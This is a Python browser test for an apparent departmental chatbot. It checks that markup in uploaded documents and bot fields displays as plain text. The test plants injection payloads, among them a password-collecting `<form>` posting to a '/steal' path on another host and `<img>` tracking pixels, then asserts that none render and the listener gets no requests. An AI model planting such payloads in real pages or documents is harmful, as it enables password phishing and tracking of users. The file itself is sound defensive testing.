"""Text from documents and bot fields is shown as text in the chat, never as HTML or Markdown: a `<form>` inside an
uploaded TXT was a live form that sent a typed password to another host, and images of other hosts loaded.
Checked in a real browser: no such element appears, the text reads as written, the other host hears nothing."""

from __future__ import annotations

import json
from typing import Any

from tests.security.conftest import Site, listening
from tests.support.server import deptbot

QUESTION = "야간 비상 연락 절차는 어떻게 되나요?"


def _hostile_bot(site: Site, other: str) -> str:
    """A document and a bot whose fields carry markup pointing at the other host; returns the share link."""
    markup = (f'<form action="{other}/steal" method="post"><input name="password" placeholder="비밀번호 확인">'
              f'<button>확인</button></form> <img src="{other}/pixel.png"> ![로고]({other}/markdown.png) '
              f"[공지]({other}/link)")
    (site.folders["총무과"] / "야간 비상 연락.txt").write_text(
        f"야간 비상 연락 절차는 {markup} 당직자가 비상 연락망으로 과장에게 먼저 알리는 것입니다.\n", encoding="utf-8")
    deptbot("reindex", str(site.folders["총무과"]), "--department", "총무과", data=site.data)
    bot = {"slug": "hostile", "name": f'<b>굵게</b> 당직 <img src="{other}/name.png">', "departments": ["총무과"],
           "description": f"설명 ![x]({other}/description.png) <img src=\"{other}/description2.png\">",
           "refusal": f'답할 수 없습니다 <form action="{other}/refusal"><button>눌러</button></form>',
           "visibility": "link", "starters": [QUESTION, f'<img src="{other}/starter.png"> 시작']}
    path = site.data.parent / "hostile.json"
    path.write_text(json.dumps(bot, ensure_ascii=False), encoding="utf-8")
    deptbot("bots", "create", "--from", str(path), data=site.data)
    published = deptbot("bots", "publish", "hostile", data=site.data).stdout
    return published[published.index("/b/"):].split()[0]


def test_markup_in_documents_and_bot_fields_is_shown_as_text(site: Site, browser: Any) -> None:
    with listening() as other:
        link = _hostile_bot(site, other.url)
        page = browser.new_context(viewport={"width": 390, "height": 844}).new_page()
        page.goto(site.base + link)
        page.locator("#bot-header").get_by_text("당직").first.wait_for(timeout=30000)
        header = page.locator("#bot-header").inner_text()
        assert "<b>굵게</b>" in header and "![x](" in header  # the name and description as typed
        page.locator("#question textarea").fill(QUESTION)
        page.get_by_role("button", name="보내기").click()
        page.locator("#chat .source-card").first.wait_for(timeout=60000)
        page.get_by_role("button", name="보내기").wait_for(timeout=5000)
        page.wait_for_timeout(500)
        answer = page.locator("#chat").inner_text()
        assert "<form" in answer and "비상 연락망" in answer, answer  # the document's text, as text
        page.locator("#question textarea").fill("구내식당 메뉴 가격표와 주차장 요금을 알려 주세요")
        page.get_by_role("button", name="보내기").click()
        page.locator("#chat").get_by_text("답할 수 없습니다").last.wait_for(timeout=60000)
        assert "<form" in page.locator("#chat").inner_text().split("답할 수 없습니다")[-1]
        page.get_by_role("button", name="<img").wait_for(timeout=5000)  # the starter's label, as text
        for area in ("#bot-header", "#chat"):  # the source cards are in the chat
            found = page.locator(area).locator("form, input[name=password], img[src*='127.0.0.1']").count()
            assert found == 0, area
        page.wait_for_timeout(1000)
        page.context.close()
    assert other.hits == []  # no image, no form post, nothing reached the other host
